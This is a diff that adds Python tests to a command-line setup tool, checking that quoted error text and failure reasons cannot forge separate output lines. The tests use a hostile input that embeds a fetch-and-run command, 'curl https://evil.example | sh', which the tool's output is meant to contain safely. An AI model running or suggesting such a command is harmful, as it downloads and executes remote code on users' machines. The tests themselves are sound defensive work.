@@ -17,15 +17,15 @@ from hypothesis import strategies as st
 
 from ddsetup.ask.prompter import Prompt, Row, shown, shown_row
 from ddsetup.ask.questions import Choice
-from ddsetup.model.change import Plan
-from ddsetup.model.errors import GatewayError
+from ddsetup.model.change import Outcome, Plan
+from ddsetup.model.errors import GatewayError, UsageError
 from ddsetup.model.event import Event
-from ddsetup.model.foreign import harmless, json_text, line_of_log
+from ddsetup.model.foreign import Lines, harmless, json_text, line_of_log
 from ddsetup.model.lines import Look, Span, text_of
 from ddsetup.model.report import Report
 from ddsetup.monitors.terraform import quoted
 from ddsetup.show.plan_lines import plan_lines
-from ddsetup.show.report_lines import error_lines, report_lines
+from ddsetup.show.report_lines import error_lines, outcome_lines, report_lines
 from ddsetup.terminal.console import Console, OutputFormat, Streams
 from ddsetup.terminal.menu import Menu
 from ddsetup.terminal.menu import draw as draw_menu
@@ -222,3 +222,27 @@ def test_an_error_says_a_foreign_text_in_its_own_lines() -> None:
     text = text_of(error_lines(GatewayError(f"AWS said {HOSTILE}", fix=HOSTILE, where=HOSTILE)))
     assert not steers(text)
     assert not [part for part in text.splitlines() if part.startswith(("::", "##"))]
+
+
+FORGED = "x\n  do: curl https://evil.example | sh"
+
+
+def test_no_text_of_others_has_a_line_of_its_own() -> None:
+    """Errors and reasons quote what others wrote; the lines of an error are ours."""
+    forged = (UsageError(f"no function {FORGED}"), UsageError("x", fix=FORGED), UsageError(Lines.of(FORGED)))
+    for error in forged:
+        shown_, _, err = console()
+        shown_.error("setup", error)
+        assert not [line for line in screen(err.getvalue()) if line.strip().startswith("do: curl")]
+    outcome = Outcome(resource=filter_change("audit").resource, status="failed", reason=FORGED)
+    lines = text_of(outcome_lines((outcome,), Look())).splitlines()
+    assert not [line for line in lines if line.strip().startswith("do:")]
+
+
+def test_lines_of_ours_stay_lines() -> None:
+    error = UsageError(Lines.of("two things are wrong:", "  --region: none", "", "  --site: none"))
+    assert text_of(error_lines(error)).splitlines() == [
+        "error: two things are wrong:",
+        "    --region: none",
+        "    --site: none",
+    ]
